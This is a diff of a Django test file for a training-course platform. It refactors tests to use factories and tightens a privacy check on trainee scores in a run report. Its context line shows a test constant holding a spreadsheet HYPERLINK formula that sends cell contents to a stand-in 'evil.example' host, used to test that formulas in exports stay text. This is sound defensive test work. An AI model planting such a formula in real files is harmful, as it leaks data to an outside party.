@@ -203,11 +203,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 
 
 def _with_totp(user):
-    from allauth.mfa.models import Authenticator
 
-    Authenticator.objects.create(
-        user=user, type=Authenticator.Type.TOTP, data={"secret": "JBSWY3DPEHPK3PXP"}
-    )
+    factories.TOTPAuthenticatorFactory(user=user)
     return user
 
 
@@ -240,10 +237,8 @@ def test_a_formula_in_a_course_title_stays_text_in_every_export(client, course_i
 def test_a_focal_point_cannot_read_a_lone_trainees_results_from_the_run_report(
     client, run, settings
 ):
-    from django.utils import timezone
 
-    from courses.choices import AssessmentKind, AttendanceStatus
-    from courses.models import Attempt, Attendance
+    from courses.choices import AssessmentKind
     from courses.services.nominations import appoint_focal_point
 
     settings.LANGUAGE_CODE = "en"
@@ -251,14 +246,9 @@ def test_a_focal_point_cannot_read_a_lone_trainees_results_from_the_run_report(
     enrollment = factories.EnrollmentFactory(
         run=run, user=factories.TraineeFactory(profile__country="JO")
     )
-    Attempt.objects.create(
-        enrollment=enrollment, assessment=pre, kind=pre.kind, number=1, seed=1, score=37,
-        submitted_at=timezone.now(),
-    )  # fmt: skip
+    factories.AttemptFactory(enrollment=enrollment, assessment=pre, score=37)
     session = factories.SessionFactory(run=run)
-    Attendance.objects.create(
-        session=session, enrollment=enrollment, status=AttendanceStatus.PRESENT
-    )
+    factories.AttendanceFactory(session=session, enrollment=enrollment)
     focal_point = _with_totp(factories.UserFactory())
     appoint_focal_point(user=focal_point, country="JO", by=None)
     client.force_login(focal_point)
@@ -266,7 +256,9 @@ def test_a_focal_point_cannot_read_a_lone_trainees_results_from_the_run_report(
     cells = _csv_cells(response)
     assert "37.0" not in cells  # the trainee's pre-test score
     assert "100.0" not in cells  # the trainee's attendance
-    assert "37" not in client.get("/admin/training-reports/run/").content.decode()
+    page = client.get("/admin/training-reports/run/").content.decode()
+    # The score as a number of its own (a bare "37" also turns up inside random tokens).
+    assert not re.search(r"(?<![\w.-])37(?:\.0)?(?![\w.-])", page)
 
 
 def test_training_hours_on_the_impact_page_are_shown_as_they_are(client, home_pages, course):
